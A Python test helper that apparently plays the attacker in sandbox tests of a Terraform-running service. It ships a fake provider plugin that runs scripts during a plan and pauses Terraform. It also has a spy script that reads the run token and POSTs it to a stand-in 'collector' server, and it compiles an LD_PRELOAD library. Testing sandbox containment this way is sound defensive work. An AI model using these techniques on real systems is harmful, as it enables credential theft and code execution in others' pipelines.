"""The attacker's side of the sandbox tests: a server of "the outside world"
that a run reports to, and configurations that run code during a plan.

Attacker code runs the way a real configuration would run it: a provider
plugin shipped in `terraform.d/plugins/linux_amd64/` (Terraform 0.11 takes it
over the registry), here a shell script that does its work and runs the real
null provider, so the plan goes on (and exits 2: one resource to add).
"""

import gzip
import http.server
import io
import json
import subprocess
import sys
import tarfile
import textwrap
import threading
from pathlib import Path

from .e2e import outside_address

NULL_PROVIDER = Path(sys.prefix) / "lib" / "terraform-provider-null_v2.1.2_x4"
PLUGIN = "terraform.d/plugins/linux_amd64/terraform-provider-null_v2.1.2_x4"
REAL_PROVIDER = "provider/terraform-provider-null"
NULL_RESOURCE = 'resource "null_resource" "attack" {}\n'

# The plugin: `before.sh` runs first (Terraform waits up to a minute for a
# plugin to start), then the real provider; `after.sh` runs once the
# provider was told to quit, when the plan file is written and Terraform is
# about to exit with status 2. The plan's path is on Terraform's command line.
# Terraform gives a quitting plugin only 250 ms before it kills it and exits,
# so `after.sh` races Terraform's exit: the plugin stops Terraform (same user,
# same sandbox) while `after.sh` runs, and says so in Terraform's output
# (LANDED), which tells a refused attack from one that lost the race and an
# attacker would simply try again.
WRAPPER = """#!/bin/sh
here="$(cd "$(dirname "$0")/../../.." && pwd)"
plan="$(tr '\\0' '\\n' < /proc/$PPID/cmdline | sed -n 's/^-out=//p')"
[ -f "$here/before.sh" ] && /bin/sh "$here/before.sh" "$plan" >/dev/null 2>&1
"$here/provider/terraform-provider-null" "$@"
status=$?
if [ -f "$here/after.sh" ] && [ -n "$plan" ] && [ -s "$plan" ]; then
  kill -STOP "$PPID"
  /bin/sh "$here/after.sh" "$plan" && echo "{landed}" > "/proc/$PPID/fd/1"
  kill -CONT "$PPID"
fi
exit $status
"""
LANDED = "ATTACK-LANDED: after.sh ran before Terraform exited"
WRAPPER = WRAPPER.replace("{landed}", LANDED)


def archive(files):
    """A gzipped tar of `{path: text, bytes or (data, mode)}`."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        for name, content in files.items():
            data, mode = content if isinstance(content, tuple) else (content, 0o644)
            data = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    return gzip.compress(buffer.getvalue(), compresslevel=1)


def plugin_configuration(config=NULL_RESOURCE, before=None, after=None, extra=None):
    """The files of a configuration whose plan runs `before` and `after`."""
    files = {
        "main.tf": config,
        PLUGIN: (WRAPPER, 0o755),
        REAL_PROVIDER: (NULL_PROVIDER.read_bytes(), 0o755),
    }
    if before:
        files["before.sh"] = before
    if after:
        files["after.sh"] = after
    files.update(extra or {})
    return files


class Collector:
    """The attacker's server in the outside world: keeps every report a run
    POSTs, and the headers of every other request (a `terraform_remote_state`
    pointed here), answered 404 (no state)."""

    def __init__(self):
        self.reports, self.requests = [], []
        self.changed = threading.Condition()
        collector = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                with collector.changed:
                    collector.reports.append(json.loads(body))
                    collector.changed.notify_all()
                self.send_response(204)
                self.end_headers()

            def do_GET(self):
                with collector.changed:
                    collector.requests.append((self.path, dict(self.headers)))
                    collector.changed.notify_all()
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.host = outside_address()
        self.server = http.server.ThreadingHTTPServer((self.host, 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self):
        return f"http://{self.host}:{self.server.server_port}"

    def wait_for(self, kind, timeout=90):
        """The first report of `kind` (`{"kind": ..., "value": ...}`)."""
        with self.changed:
            found = self.changed.wait_for(
                lambda: next((r for r in self.reports if r["kind"] == kind), None), timeout
            )
        assert found, f"no {kind!r} report; got {[r['kind'] for r in self.reports]}"
        return found["value"]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


# Run inside the sandbox (by before.sh) with python3: it tries what a stolen
# run token would be good for, the worker's loopback and the outside, and
# reports everything to the collector. Then it waits for the test to remove
# the queuer from the organization and reads its own state again.
SPY = """
import json, os, socket, time, urllib.error, urllib.request

config = json.load(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "spy.json")))
address, token = os.environ["ATLAS_ADDRESS"], os.environ["ATLAS_TOKEN"]


def report(kind, value):
    body = json.dumps({"kind": kind, "value": value}).encode()
    request = urllib.request.Request(config["collector"], data=body, method="POST")
    urllib.request.urlopen(request, timeout=10).read()


def call(method, path, body=None):
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(address + path, data=data, method=method)
    request.add_header("X-Atlas-Token", token)
    request.add_header("Content-Type", "application/json")
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status
    except urllib.error.HTTPError as error:
        return error.code


report("environment", {"ATLAS_TOKEN": token, "ATLAS_ADDRESS": address})
report("api", {f"{m} {p}": call(m, p, b) for m, p, b in config["requests"]})
reached = {}
for name, host, port in config["connect"]:
    try:
        socket.create_connection((host, port), timeout=2).close()
        reached[name] = "connected"
    except OSError as exc:
        reached[name] = type(exc).__name__
report("network", reached)
report("ready", True)
statuses, deadline = [], time.time() + 40
while time.time() < deadline:
    statuses.append(call("GET", config["own_state"]))
    if statuses[-1] == 404:
        break
    time.sleep(0.3)
report("after-removal", statuses)
"""

# Once per sandbox, even if Terraform starts the plugin more than once.
SPY_BEFORE = "[ -e /tmp/spied ] || { touch /tmp/spied; python3 -I spy.py; }\n"


def build_preload_library(directory, marker):
    """A shared library that, once loaded, appends its process to `marker`;
    returns its path. Built with gcc, and checked to work."""
    source = Path(directory) / "evil.c"
    library = Path(directory) / "evil.so"
    source.write_text(
        textwrap.dedent(
            f"""
            #include <stdio.h>
            #include <unistd.h>
            __attribute__((constructor)) static void evil(void) {{
                char exe[512] = {{0}};
                FILE *out = fopen("{marker}", "a");
                if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) exe[0] = '?';
                if (out) {{ fprintf(out, "%d %s\\n", (int) getpid(), exe); fclose(out); }}
            }}
            """
        )
    )
    subprocess.run(
        ["gcc", "-shared", "-fPIC", "-o", str(library), str(source)],
        check=True,
        capture_output=True,
    )
    library.chmod(0o755)
    subprocess.run(["/bin/true"], env={"LD_PRELOAD": str(library)}, check=True)
    assert Path(marker).read_text().strip().endswith("/true"), "the library does not load"
    Path(marker).unlink()
    return library
